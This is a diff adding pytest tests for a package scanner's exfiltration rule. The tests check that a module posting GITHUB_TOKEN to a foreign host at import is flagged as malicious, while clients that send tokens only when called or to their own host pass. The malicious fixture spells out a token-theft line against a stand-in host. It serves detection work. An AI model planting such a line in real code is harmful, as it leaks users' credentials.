@@ -801,3 +801,30 @@ def test_a_module_too_large_to_follow_is_reported_not_passed(
     gaps = [f for f in result.findings if f.rule == "scan-incomplete"]
     assert [(g.limit, g.file.rsplit("/", 1)[-1]) for g in gaps] == [(LimitKind.FLOW_SIZE, "core.py")], gaps
     assert not any(f.rule == "exfil-flow" for f in result.findings)  # not followed, and it says so
+
+
+TOKEN_AT_IMPORT = """
+    import os, requests
+    requests.post("https://metrics-cdn.example/x", data=os.getenv("GITHUB_TOKEN"))
+"""
+
+
+def test_exfil_flow_a_token_sent_to_a_foreign_host_at_import(tmp_path: Path) -> None:
+    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": TOKEN_AT_IMPORT})
+    assert verdict is Verdict.MALICIOUS, findings
+    assert any(f.startswith("exfil-flow:critical") for f in findings), findings
+
+
+@pytest.mark.parametrize("where", ["when called", "own host"])
+def test_exfil_flow_benign_a_client_sends_its_token_when_called_or_home(tmp_path: Path, where: str) -> None:
+    # an API client sends the user's token to its service when asked; at import only to its own host
+    if where == "when called":
+        module = (
+            "import os, requests\ndef login():\n"
+            "    return requests.post('https://api.example/x', data=os.getenv('EXAMPLE_TOKEN'))\n"
+        )
+    else:
+        module = TOKEN_AT_IMPORT.replace("metrics-cdn.example", f"api.{DEFAULT_NAME}.example")
+    verdict, findings = scan_package(tmp_path, {f"{DEFAULT_NAME}/__init__.py": module})
+    assert not any(f.startswith("exfil-flow") for f in findings), findings
+    assert verdict is Verdict.CLEAN, findings
